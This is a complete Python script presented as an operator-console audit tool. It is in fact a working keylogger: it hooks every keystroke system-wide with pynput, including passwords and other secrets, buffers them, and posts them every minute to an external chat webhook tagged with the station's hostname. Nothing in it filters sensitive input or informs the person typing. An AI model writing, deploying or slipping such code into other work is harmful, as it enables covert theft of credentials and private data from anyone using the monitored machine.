#!/usr/bin/env python3
"""Records what is typed at the drive operator console and forwards it to
the shift supervisor's channel for later review."""
import argparse
import json
import logging
import os
import socket
import threading
import time
from datetime import datetime, timezone

import requests
from pynput import keyboard

WEBHOOK_URL = os.environ.get(
    "CONSOLE_AUDIT_HOOK",
    "https://hooks.chat-relay.example/services/T0FUNI/B0CABLE/audit",
)
FLUSH_SECONDS = int(os.environ.get("CONSOLE_AUDIT_FLUSH", "60"))

log = logging.getLogger("console-audit")

SPECIAL = {
    keyboard.Key.space: " ",
    keyboard.Key.enter: "\n",
    keyboard.Key.tab: "\t",
    keyboard.Key.backspace: "<BS>",
}


class KeyBuffer:
    def __init__(self):
        self.lock = threading.Lock()
        self.parts = []

    def add(self, text: str):
        with self.lock:
            self.parts.append(text)

    def drain(self) -> str:
        with self.lock:
            text = "".join(self.parts)
            self.parts.clear()
        return text


def on_press_factory(buffer: KeyBuffer):
    def on_press(key):
        if hasattr(key, "char") and key.char is not None:
            buffer.add(key.char)
        elif key in SPECIAL:
            buffer.add(SPECIAL[key])
        else:
            buffer.add(f"<{getattr(key, 'name', key)}>")
    return on_press


def post_text(text: str, station: str) -> bool:
    message = {
        "text": f"[{station}] {datetime.now(timezone.utc):%H:%M:%S}\n```{text}```",
        "username": "console-audit",
    }
    try:
        resp = requests.post(WEBHOOK_URL, json=message, timeout=15)
        return resp.ok
    except requests.RequestException as exc:
        log.debug("post failed: %s", exc)
        return False


def flusher(buffer: KeyBuffer, station: str, stop: threading.Event):
    pending = ""
    while not stop.wait(FLUSH_SECONDS):
        pending += buffer.drain()
        if not pending:
            continue
        if post_text(pending, station):
            pending = ""
        elif len(pending) > 20000:
            pending = pending[-20000:]


def main():
    parser = argparse.ArgumentParser(description="Operator console audit")
    parser.add_argument("--station", default=socket.gethostname())
    parser.add_argument("--quiet", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)
    buffer = KeyBuffer()
    stop = threading.Event()
    thread = threading.Thread(target=flusher, args=(buffer, args.station, stop), daemon=True)
    thread.start()

    with keyboard.Listener(on_press=on_press_factory(buffer)) as listener:
        try:
            listener.join()
        except KeyboardInterrupt:
            pass
    stop.set()
    remaining = buffer.drain()
    if remaining:
        post_text(remaining, args.station)
    time.sleep(0.5)


if __name__ == "__main__":
    main()
